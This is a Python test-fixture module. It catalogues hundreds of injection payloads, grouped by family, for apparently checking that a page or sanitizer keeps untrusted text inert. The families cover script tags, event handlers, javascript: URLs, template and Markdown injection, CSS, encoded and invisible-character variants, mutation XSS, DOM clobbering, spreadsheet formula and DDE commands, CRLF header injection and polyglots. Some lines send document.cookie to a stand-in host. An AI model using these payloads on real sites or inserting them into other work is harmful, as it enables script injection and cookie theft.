"""Texts that would run, or ask another host, where a page took them for markup, a template, Markdown or a formula.

Each one that runs sets ``window.__hit`` or asks ``off-origin.invalid``; its id names it in a failure: ``handler-07``.
"""

import base64
from collections.abc import Iterator
from dataclasses import dataclass

RUN = "window.__hit=1"
OFF = "https://off-origin.invalid/"
IMG = f"<img src=x onerror={RUN}>"
_B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
_HEX = "".join(f"\\x{ord(letter):02x}" for letter in "window.__hit=1")

_SCRIPTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script/x>",
    f"<script\n>{RUN}</script\n>", f"<script\t>{RUN}</script\t>", f"<script\f>{RUN}</script>", f"<script type=module>{RUN}</script>",
    f"<script>{RUN}", f"<script>{RUN}//", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={OFF}s.js></script>", f"<script src=//{OFF[8:]}s.js></script>", f"<script async defer src='{OFF}s.js'>",
    f"<script type=importmap>{{\"imports\":{{\"x\":\"{OFF}\"}}}}</script>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={OFF}s.js /></svg>", "<svg><script>&#119;indow.__hit=1</script>", f"<script>eval('{_HEX}')</script>",
    f"<script>fetch('{OFF}'+document.cookie)</script>", f"<script>navigator.sendBeacon('{OFF}')</script>", "<script>alert(1)</script>",
]  # fmt: skip
# Element with its other attributes, and the event that would run.
_EVENTS = [
    ("img src=x", "error"), ("IMG SRC=x", "ERROR"), ("img/src=x/", "error"), ("image src=x", "error"), ("svg", "load"), ("svg/", "load"),
    ("body", "load"), ("body", "pageshow"), ("body", "hashchange"), ("input autofocus", "focus"), ("select autofocus", "focus"),
    ("textarea autofocus", "focus"), ("button autofocus", "focus"), ("x tabindex=1 autofocus", "focus"), ("video src=x", "error"),
    ("audio src=x", "error"), ("video><source", "error"), ("details open", "toggle"), ("marquee", "start"), ("iframe", "load"),
    ("object data=x", "error"), ("embed src=x", "load"), ("link rel=stylesheet href=x", "error"), ("style", "load"),
    ("script src=x", "error"), ("div", "pointerover"), ("p", "mouseover"), ("q", "click"), ("table", "mousemove"), ("td", "wheel"),
    ("mark", "contextmenu"), ("svg><animate attributeName=x dur=1s", "begin"), ("svg><set attributeName=x", "begin"), ("form", "submit"),
    ("dialog open", "close"), ("p style=animation:x", "animationstart"), ("p contenteditable", "beforeinput"), ("a href=#", "auxclick"),
    ("li", "copy"), ("h2", "paste"), ("caption", "dragstart"), ("div popover", "beforetoggle"),
]  # fmt: skip
_URLS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}",
    f"\x01javascript:{RUN}", f" javascript:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript&colon;{RUN}", f"javascript&#58;{RUN}",
    f"javascript://%0a{RUN}", f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,{_B64}", f"vbscript:{RUN}",
    f"//{OFF[8:]}", f"\\\\{OFF[8:]}", f"https:{OFF[8:]}", f"{OFF}?q=",
]  # fmt: skip
_LINKS = [
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button></form>",
    "<button formaction='{}' form=f>x</button>", "<object data='{}'></object>", "<embed src='{}'>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<math href='{}'>x</math>", "<map><area href='{}'></map>", "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<frameset><frame src='{}'></frameset>", "<isindex action='{}'>",
]  # fmt: skip
_LOADS = [
    "<img src={0}i.png>", "<img srcset='{0}i.png 2x'>", "<picture><source srcset={0}i.png><img></picture>", "<video poster={0}p.png>",
    "<video><track default src={0}t.vtt></video>", "<audio autoplay src={0}a.mp3>", "<input type=image src={0}i.png>",
    "<body background={0}b.png>", "<table background={0}b.png>", "<svg><image href={0}i.svg /></svg>",
    "<svg><use href={0}i.svg#x /></svg>", "<svg><feImage href={0}i.svg /></svg>", "<link rel=stylesheet href={0}s.css>",
    "<link rel=prefetch href={0}p>", "<link rel=preconnect href={0}>", "<link rel=icon href={0}i.ico>",
    "<link rel=modulepreload href={0}m.js>", "<link rel=manifest href={0}m>", "<a href=# ping={0}>x</a>",
    "<iframe srcdoc='<script src={0}s.js></script>'></iframe>", "<iframe srcdoc='&lt;script>window.parent.__hit=1&lt;/script>'></iframe>",
    "<object type=text/html data={0}></object>", "<embed src={0} type=image/svg+xml>", "<applet codebase={0} code=x>", "<portal src={0}>",
    "<fencedframe src={0}>", "<html manifest={0}>", "<meta http-equiv=refresh content=0;{0}>", "<xml src={0}>", "<bgsound src={0}>",
]  # fmt: skip
_QUOTES = [
    '"', "'", "`", "", "\\\"", "&quot;", "%22", "&#34;",
]  # fmt: skip
_BREAK_OUTS = [f"{{0}}>{IMG}", f"{{0}} autofocus onfocus={RUN} x={{0}}", f"x{{0}} onmouseover={{0}}{RUN}"]
_ENDS = [
    "-->", "--!>", "<!-->", "]]>", "?>", "<!DOCTYPE x>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</iframe>",
    "</xmp>", "</noembed>", "</noframes>", "</template>", "</select>", "</option>", "</table>", "</td></tr></table>", "</caption>",
    "</mark>", "</q>", "</details>", "</form>", "</main>", "</body></html>",
]  # fmt: skip
_TEMPLATES = [
    "{{{{{0}}}}}", "{{{{7*7}}}}{1}", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "<%={0}%>", "<% {0} %>{1}",
    "{{%{0}%}}", "[[${{{0}}}]]", "*{{{0}}}", "@({0})", "{{{{{{{0}}}}}}}", "`${{{0}}}`", "');{0};//", "\\');{0};//",
    "</script>{1}{{{{7*7}}}}", "{{{{$on.constructor('{0}')()}}}}", "<x v-html=\"'{1}'\">", "<x ng-init=\"{0}\">", "<x x-init=\"{0}\">",
]  # fmt: skip
_MARKDOWN = [
    "![x]({1}i.png)", "![x]({1}i.png \"t\")", "[x](javascript:{0})", "[x](JAVASCRIPT:{0})", "[x](<javascript:{0}>)",
    "[x](data:text/html;base64,{2})", "[x]({1})", "<{1}>", "{1}bare", "<javascript:{0}>", "[x][r]\n\n[r]: javascript:{0}",
    "![x][r]\n\n[r]: {1}i.png", "[![x]({1}i.png)](javascript:{0})", "![x\"onerror=\"{0}](x)", "[x](x\"onmouseover=\"{0})",
    "[x](java&#10;script:{0})", "```html\n{3}\n```", "`{3}`", "> {3}", "- {3}", "# {3}", "    {3}", "*{3}*", "[^1]\n\n[^1]: {3}",
    "<details>\n\n{3}\n</details>", "[1] {3}", "1. {3}", "[x](vbscript:{0})", "![x](javascript:{0})", "[x]:{1}",
    "$$\\href{{javascript:{0}}}{{x}}$$",
]  # fmt: skip
_CSS = [
    "<style>@import '{1}s.css';</style>", "<style>*{{background:url({1})}}</style>", "<p style=\"background:url({1})\">x</p>",
    "<p style='background:url(\"{1}\")'>x</p>", "<p style=width:expression({0})>x</p>", "<p style=-moz-binding:url({1}x.xml#x)>x</p>",
    "<p style=behavior:url({1}x.htc)>x</p>", "<style>@font-face{{font-family:x;src:url({1})}}*{{font-family:x}}</style>",
    "<style>li{{list-style:url({1})}}</style>", "<svg><style>*{{fill:url({1}#x)}}</style></svg>", "<style>@\\69mport '{1}';</style>",
    "<p style=cursor:url({1}),auto>x</p>", "<p style=\"background:image-set('{1}' 1x)\">x</p>", "}}*{{background:url({1})}}",
    "@import url({1});",
]  # fmt: skip
_ENCODED = [
    "&lt;img src=x onerror={0}&gt;", "&#60;img src=x onerror={0}&#62;", "&#x3c;img src=x onerror={0}&#x3e;",
    "&#60img src=x onerror={0}&#62", "&amp;lt;img src=x onerror={0}&amp;gt;", "%3Cimg%20src=x%20onerror={0}%3E",
    "%253Cimg src=x onerror={0}%253E", "\\u003cimg src=x onerror={0}\\u003e", "\\x3cimg src=x onerror={0}\\x3e",
    "\\74img src=x onerror={0}\\76", "+ADw-img src=x onerror={0}+AD4-", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "%C0%BCimg src=x onerror={0}%C0%BE", "\u00c0\u00bcimg src=x onerror={0}\u00c0\u00be", "\u00bcscript\u00be{0}\u00bc/script\u00be",
    "＜script＞{0}＜/script＞", "<ｓｃｒｉｐｔ>{0}</ｓｃｒｉｐｔ>", "﹤img src=x onerror={0}﹥", "‹img src=x onerror={0}›",
    "<img src=x onerror=\\u0077indow.__hit=1>", "<img src=x onerror=&#119;indow.__hit=1>", "<img src=x onerror&#61;{0}>",
    "<a href=&#x6a;&#x61;vascript:{0}>x</a>", "<İmg src=x onerror={0}>", "<ſcript>{0}</ſcript>",
    "<img src=x onerror=eval(atob('d2luZG93Ll9faGl0PTE='))>",
]  # fmt: skip
_INVISIBLE = {
    "null": "\x00", "backspace": "\x08", "vertical tab": "\x0b", "escape": "\x1b", "delete": "\x7f", "next line": "\x85",
    "soft hyphen": "\xad", "combining": "\u0300", "zero width space": "\u200b", "zero width joiner": "\u200d", "right to left": "\u202e",
    "left to right": "\u2066", "line": "\u2028", "paragraph": "\u2029", "byte order mark": "\ufeff", "variation": "\ufe0f",
    "tag space": "\U000e0020", "ideographic space": "\u3000",
}  # fmt: skip
_MUTATIONS = [
    '<noscript><p title="</noscript>{0}">', "<svg><style>{0}</style></svg>", "<svg><p><style><g title=\"</style>{0}\">",
    "<math><mtext></p>{0}", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={1}&gt;\">",
    "<math><annotation-xml encoding=text/html>{0}", "<svg><foreignObject>{0}</foreignObject></svg>", "<svg><desc>{0}</desc></svg>",
    "<svg><title>{0}</title></svg>", "<listing>&lt;img src=x onerror={1}&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}", "<table><tr><td><svg><tbody>{0}", "<template>{0}</template>{0}",
    "<select><xmp>{0}", "<a/title='</a>{0}'>", "<p id='</p>{0}'>", "<xmp><p title=\"</xmp>{0}\">", "<title><p title='</title>{0}'>",
    "<textarea><p title='</textarea>{0}'>", "<!--<p title=\"-->{0}\">", "<![CDATA[<p title=\"]]>{0}\">", "<div><a><b></div></a>{0}",
    "<svg></p><style><a id=\"</style>{0}\">",
]  # fmt: skip
_CLOBBERING = [
    "<form id=x><input name=action>{0}</form>", "<a id=Caiwen href=javascript:{1}>x</a>",
    "<a id=Caiwen><a id=Caiwen name=ask href=cid:{1}>{0}", "<img name=body>{0}", "<form name=querySelector>{0}</form>",
    "<iframe name=self srcdoc=\"{0}\">", "<input id=attributes>{0}", "<form id=question><output name=value>{0}</form>",
    "<img id=getElementById name=getElementById>{0}", "<a id=__hit href=#>x</a>{0}",
]  # fmt: skip
_FORMULAS = [
    '=HYPERLINK("{1}","x")', '=WEBSERVICE("{1}")', '=IMPORTXML("{1}","//a")', "=cmd|' /C calc'!A0 {0}", "+cmd|' /C calc'!A0 {0}",
    "-2+3+cmd|' /C calc'!A0 {0}", '@SUM(1+1)*HYPERLINK("{1}")', '\t=WEBSERVICE("{1}")', '\r=WEBSERVICE("{1}")', '\n=WEBSERVICE("{1}")',
    ' =WEBSERVICE("{1}")', '",=WEBSERVICE("{1}")', ';=WEBSERVICE("{1}")', '＝WEBSERVICE("{1}")', '＋HYPERLINK("{1}")',
    '＠HYPERLINK("{1}")', "－1+HYPERLINK(\"{1}\")", "'=WEBSERVICE(\"{1}\")", '=DDE("cmd";"/C calc";"{0}")', '=IMAGE("{1}i.png")',
]  # fmt: skip
_HEADERS = [
    "x\r\nSet-Cookie: x={0}", "x\nSet-Cookie: x={0}", "x\rSet-Cookie: x={0}", "x%0d%0aLocation: {1}", "x\r\n\r\n<script>{0}</script>",
    "x\u560a\u560dSet-Cookie: x={0}", 'x"; filename="x.html"; x="{0}', "x\\\r\nLink: <{1}>; rel=preload; as=script", "x\x00.html;{0}",
    "..\\..\\{0}.txt", "../../{0}.txt", "x.txt\r\nRefresh: 0;{1}", "\r\nevent: done\r\ndata: {{\"text\":\"{0}\"}}\r\n\r\n",
]  # fmt: skip
_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={0} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/onload={0}>",
    "\">><marquee>{2}</marquee>\"></plaintext></|><plaintext/onmouseover={0}>", "';{0}//\\';{0}//\";{0}//--></script>\">'>{2}",
    "<!--\" onload='{0}'--><svg onload={0}>", "]]></x>*/</script></style></textarea>{2}", "{{{{7*7}}}}${{7*7}}<%7*7%>{2}",
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that must stay one; in ``markup`` an HTML page that let it through would have an element or attribute of its making."""

    id: str
    text: str
    markup: bool

    @property
    def family(self) -> str:
        return self.id.partition("-")[0]


def _families() -> Iterator[tuple[str, bool, list[str]]]:
    """Families by name, whether they are markup somewhere in a page, and their texts."""
    yield "script", True, _SCRIPTS
    yield "handler", True, [f"<{name} on{event}={RUN}>" for name, event in _EVENTS]
    yield "url", True, [form.format(_URLS[at % len(_URLS)]) for at, form in enumerate(_LINKS * 2)] + _URLS
    yield "load", True, [form.format(OFF) for form in _LOADS]
    yield "quote", True, [form.format(quote) for form in _BREAK_OUTS for quote in _QUOTES[:4]]
    yield "escapedquote", False, [form.format(quote) for form in _BREAK_OUTS[1:] for quote in _QUOTES[4:]]
    yield "end", True, [f"{end}{IMG}" for end in _ENDS] + [f"<![CDATA[{IMG}]]>", f"<!--{IMG}-->{IMG}", f"<?x {IMG}?>"]
    yield "template", False, [form.format(RUN, IMG) for form in _TEMPLATES]
    yield "markdown", False, [form.format(RUN, OFF, _B64, IMG) for form in _MARKDOWN]
    yield "css", False, [form.format(RUN, OFF) for form in _CSS]
    yield "encoded", False, [form.format(RUN) for form in _ENCODED]
    yield "invisible", False, [f"<{sign}img{sign} src=x on{sign}error={RUN}>{sign}" for sign in _INVISIBLE.values()]
    yield "around", True, [f"{sign}{IMG}{sign}" for sign in _INVISIBLE.values()]
    yield "mutation", True, [form.format(IMG, RUN) for form in _MUTATIONS]
    yield "clobbering", True, [form.format(IMG, RUN) for form in _CLOBBERING]
    yield "formula", False, [form.format(RUN, OFF) for form in _FORMULAS]
    yield "header", False, [form.format(RUN, OFF) for form in _HEADERS]
    yield "polyglot", True, [form.format(RUN, OFF, IMG) for form in _POLYGLOTS]


PAYLOADS = tuple(
    Payload(f"{family}-{number:02}", text, markup)
    for family, markup, texts in _families()
    for number, text in enumerate(texts, start=1)
)
